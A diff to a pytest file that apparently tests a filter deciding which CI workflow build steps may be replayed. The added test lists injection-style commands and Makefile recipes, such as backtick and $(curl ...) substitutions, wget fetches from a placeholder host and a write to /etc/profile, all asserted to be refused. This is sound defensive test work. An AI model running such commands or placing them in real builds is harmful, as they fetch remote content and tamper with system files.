@@ -97,6 +97,41 @@ def test_unsafe_or_irrelevant_commands_are_never_replayed(tmp_path, command: str
     assert not any(command.split()[0] in run for run in replayed), replayed
 
 
+@pytest.mark.parametrize(
+    ("command", "makefile"),
+    [
+        ("cython x.pyx & curl http://example.invalid/x -o /tmp/x", ""),
+        ("cython $(curl -s http://example.invalid/y) x.pyx", ""),
+        ('cython "$(wget -qO- example.invalid)" x.pyx', ""),
+        ("cython `id` x.pyx", ""),
+        ("cython x.pyx > /etc/profile", ""),
+        ("CYTHON='curl http://example.invalid' make cython", ""),
+        ("make -f evil.mk cython", "cython:\n\tcurl http://example.invalid\n"),
+        ("make cython CYTHON='sh -c id'", ""),
+        ("make cython", "cython:\n\tcython $$(curl example.invalid) x.pyx\n"),
+        ("make cython", "cython:\n\t$(MAKE) -C sub cython\n"),
+        ("make cython", "cython:\n\tmake -C sub\n"),
+        ("make cython", "cython:\n\tcython $(shell curl example.invalid) x.pyx\n"),
+    ],
+)
+def test_commands_the_filter_cannot_read_as_written_are_never_replayed(tmp_path, command: str, makefile: str):
+    steps = f"      - run: {command}\n      - run: pytest\n"
+    if makefile:
+        (tmp_path / "evil.mk").write_text(makefile)
+    root = project(tmp_path, steps)
+    if makefile and "-f" not in command:
+        (root / "Makefile").write_text(makefile)
+    setup = read_setup(root)
+    assert runs(setup.before + setup.after) == []
+    assert any("not replayed" in note for note in setup.notes)
+
+
+def test_a_step_with_an_empty_shell_is_read_as_bash(tmp_path):
+    steps = '      - shell: ""\n        run: make cython\n      - run: pytest\n'
+    setup = read_setup(project(tmp_path, steps))
+    assert runs(setup.before) == ["uv pip install Cython", "make cython"]
+
+
 def test_safe_build_commands_are_replayed(tmp_path):
     steps = (
         "      - run: sudo apt-get update && sudo apt-get install -y --no-install-recommends"
@@ -142,7 +177,7 @@ def test_the_test_job_on_linux_is_chosen_and_other_systems_steps_are_skipped(tmp
     setup = read_setup(project(tmp_path, steps, extra_jobs=lint + windows))
     replayed = [(s.run, s.env) for s in setup.before]
     assert replayed == [("uv pip install Cython", {}), ("make cython", {"CFLAGS": "-O0"})]
-    assert any("workflow expressions left out" in note for note in setup.notes)
+    assert any("environment variables left out (workflow expressions" in note for note in setup.notes)
 
 
 def test_no_workflow_malformed_yaml_and_jobs_without_tests(tmp_path):
